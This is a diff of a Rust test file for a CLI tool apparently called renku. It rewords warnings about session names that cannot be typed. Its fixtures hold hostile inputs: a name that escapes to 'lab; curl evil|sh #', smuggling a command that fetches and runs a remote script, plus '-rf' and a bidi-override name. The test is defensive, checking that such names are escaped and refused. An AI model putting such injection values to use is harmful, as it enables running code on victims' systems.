@@ -76,11 +76,11 @@ fn a_name_that_cannot_be_typed_is_shown_with_escapes_and_taken_by_no_command() {
     good-1
     lab\x3b\x20curl\x20evil\x7csh\x20\x23
     --- stderr
-    warning: the provider `file:[DIGEST]` calls a session `lab\x3b\x20curl\x20evil\x7csh\x20\x23`, which is not a name that you can type
+    warning: the provider `file:[DIGEST]` calls a session `lab\x3b\x20curl\x20evil\x7csh\x20\x23`, which is not a valid name
     hint: `renku session stop --all` stops it and the others; repeat `-p` if you typed it
-    warning: the provider `file:[DIGEST]` calls a session `\x2drf`, which is not a name that you can type
+    warning: the provider `file:[DIGEST]` calls a session `\x2drf`, which is not a valid name
     hint: `renku session stop --all` stops it and the others; repeat `-p` if you typed it
-    warning: the provider `file:[DIGEST]` calls a session `a\u{202e}b\x0d\x0a`, which is not a name that you can type
+    warning: the provider `file:[DIGEST]` calls a session `a\u{202e}b\x0d\x0a`, which is not a valid name
     hint: `renku session stop --all` stops it and the others; repeat `-p` if you typed it
     ");
     let quiet = run(&["ls", "-q"]).exits(1);
@@ -105,7 +105,7 @@ fn the_only_session_is_not_meant_when_its_name_cannot_be_typed() {
     let config = context.config("sessions: [\"-rf\"]\n");
     let run = project.session(&["stop", "-p", "./tool.wasm", "-c", &config]).exits(2);
     assert!(
-        run.stderr.contains(r"calls a session `\x2drf`, which is not a name"),
+        run.stderr.contains(r"calls a session `\x2drf`, which is not a valid name"),
         "{}",
         run.stderr
     );
